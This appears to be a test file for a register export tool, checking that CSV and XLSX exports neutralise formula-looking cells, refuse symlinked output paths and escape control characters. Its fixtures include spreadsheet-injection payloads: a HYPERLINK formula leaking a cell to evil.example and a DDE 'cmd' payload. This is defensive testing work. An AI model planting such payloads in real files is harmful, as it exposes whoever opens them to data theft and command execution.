// Exports are safe to open (SPEC §10 "Trust boundaries"): a text cell starting with =, +, -,
// @, tab or CR is written to CSV with a leading apostrophe (file and stdout) and re-imports as
// typed; XLSX keeps it as a text cell, never a formula; --out is never written through a
// symbolic link over an existing file; control characters in a path are never echoed raw.
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportRegister } from '../src/register/export.js';
import { importFile } from '../src/register/import/index.js';
import { toCsv } from '../src/register/csv.js';
import { createTestDatabase, type TestDatabase } from './support/db.js';

const now = new Date('2026-11-22T10:00:00Z');
const AGENCIES = path.resolve('prisma/seed/tower-hamlets-agencies.csv');
// Notes are trimmed when stored, so a leading tab or CR is checked on toCsv itself below.
const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)'];
let db: TestDatabase;
let tmp: string;
let pid: string;

beforeAll(async () => {
  db = await createTestDatabase();
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'cdp-export-safety-'));
  const rows = [['Ref', 'Pillar', 'Priority', 'Objective', 'Action', 'Lead agency', 'Due', 'Status', 'Update']];
  DANGEROUS.forEach((d, i) => rows.push([`X-${i + 1}`, 'Deliver a world-class treatment and recovery system', 'Access', 'More in treatment', `Action ${i + 1}`, 'RESET', '31/03/2027', 'green', d]));
  const f = path.join(tmp, 'dangerous.csv');
  await fs.writeFile(f, stringify(rows)); // written raw (not through toCsv): a hostile file
  const r = await importFile(db, { partnershipName: 'Formula', files: [AGENCIES, f], now });
  if (!r.ok) throw new Error(r.error.message);
  pid = r.value.partnershipId;
});
afterAll(async () => {
  await db?.drop();
  await fs.rm(tmp, { recursive: true, force: true });
});

const lastUpdates = (csv: string) => (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r['Last update']);

describe('CSV export neutralises formula-looking cells', () => {
  it('in a file, with a leading apostrophe, and an export re-imports unchanged', async () => {
    const out = path.join(tmp, 'board.csv');
    const r = await exportRegister(db.prisma, pid, { format: 'csv', out });
    expect(r.ok).toBe(true);
    const cells = lastUpdates(await fs.readFile(out, 'utf8'));
    expect(cells).toEqual(DANGEROUS.map((d) => `'${d}`));
    const again = await importFile(db, { partnershipName: 'Formula', files: [out], now });
    expect(again.ok && again.value.counts.actions.unchanged).toBe(DANGEROUS.length);
  });

  it('on stdout too', async () => {
    const r = await exportRegister(db.prisma, pid, { format: 'csv' });
    expect(r.ok && lastUpdates(r.value.text!)).toEqual(DANGEROUS.map((d) => `'${d}`));
  });

  it('XLSX keeps them as text cells, not formulas', async () => {
    const out = path.join(tmp, 'board.xlsx');
    expect((await exportRegister(db.prisma, pid, { out })).ok).toBe(true);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.getWorksheet('Actions')!;
    const col = (ws.getRow(1).values as unknown[]).indexOf('Last update');
    const cells = DANGEROUS.map((_, i) => ws.getRow(i + 2).getCell(col));
    for (const c of cells) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(cells.map((c) => c.value)).toEqual(DANGEROUS);
  });

  it('every text cell starting with =, +, -, @, tab or CR; numbers stay numbers', () => {
    const [row] = parse(toCsv([['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'fine', -5, "'=kept"]]), { relax_quotes: true }) as string[][];
    expect(row).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'fine', '-5', "'=kept"]);
  });
});

describe('--out', () => {
  it('is never written through a symbolic link over an existing file', async () => {
    const victim = path.join(tmp, 'victim.txt');
    await fs.writeFile(victim, 'precious');
    const link = path.join(tmp, 'link.csv');
    await fs.symlink(victim, link);
    const r = await exportRegister(db.prisma, pid, { format: 'csv', out: link });
    expect(r.ok).toBe(false);
    expect(!r.ok && r.error.code).toBe('symlink_refused');
    expect(!r.ok && r.error.message).toContain('is a symbolic link: not written through it');
    expect(await fs.readFile(victim, 'utf8')).toBe('precious');
    const x = await exportRegister(db.prisma, pid, { out: path.join(tmp, 'link.xlsx') });
    expect(x.ok).toBe(true); // a plain new file is fine
  });

  it('a path with control characters is echoed escaped', async () => {
    const r = await exportRegister(db.prisma, pid, { format: 'csv', out: path.join(tmp, 'no-such-dir\u001b[2J', 'x.csv') });
    expect(r.ok).toBe(false);
    expect(!r.ok && r.error.message).toContain('no-such-dir\\u001b[2J');
    expect(!r.ok && r.error.message).not.toContain('\u001b');
  });
});
